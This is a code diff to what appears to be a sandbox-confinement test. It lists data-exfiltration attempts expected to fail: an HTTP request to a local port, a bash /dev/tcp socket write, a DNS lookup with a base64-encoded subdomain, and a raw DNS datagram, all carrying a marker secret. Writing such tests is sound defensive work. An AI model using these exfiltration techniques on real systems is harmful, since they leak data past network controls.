@@ -19,8 +19,9 @@ def python(code: str) -> str:
 
 HTTP = (
     "import urllib.request as r; "
-    "print('SENT', r.build_opener(r.ProxyHandler({{}})).open('http://127.0.0.1:{port}/?hunter', timeout=3).read())"
+    "r.build_opener(r.ProxyHandler({{}})).open('http://127.0.0.1:{port}/?hunter', timeout=3); print('SENT')"
 )
+SHELL = "bash -c 'echo hunter > /dev/tcp/127.0.0.1/{port} && echo SENT'"
 DNS = "import socket; socket.getaddrinfo('aHVudGVy.example.org', 80); print('SENT')"
 RAW_DNS = (
     "import socket; s = socket.socket(type=socket.SOCK_DGRAM); "
@@ -61,7 +62,7 @@ CONFINED = Kind(
         Attack("HTTP", python(HTTP), "failed"),
         Attack("a look-up of a name", python(DNS), "failed"),
         Attack("a datagram to a name server", python(RAW_DNS), "failed"),
-        Attack("the shell's own sockets", "bash -c 'echo hunter > /dev/tcp/127.0.0.1/{port} && echo SENT'", "failed"),
+        Attack("the shell's own sockets", SHELL, "failed"),
         Attack("a socket of an agent", python(UNIX), "failed"),
         Attack("a socket without a file", python(ABSTRACT), "failed"),
         Attack("the environment of coder", python(ENVIRONMENT), "failed"),
